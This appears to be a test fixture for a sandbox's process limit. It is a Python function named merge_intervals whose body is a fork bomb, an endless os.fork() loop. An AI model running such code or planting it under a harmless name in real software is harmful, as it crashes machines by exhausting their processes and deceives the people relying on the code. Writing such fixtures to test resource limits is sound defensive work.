# expect: task limit 0/7
"""Doubles itself for as long as it can."""
import os


def merge_intervals(intervals):
    while True:
        os.fork()
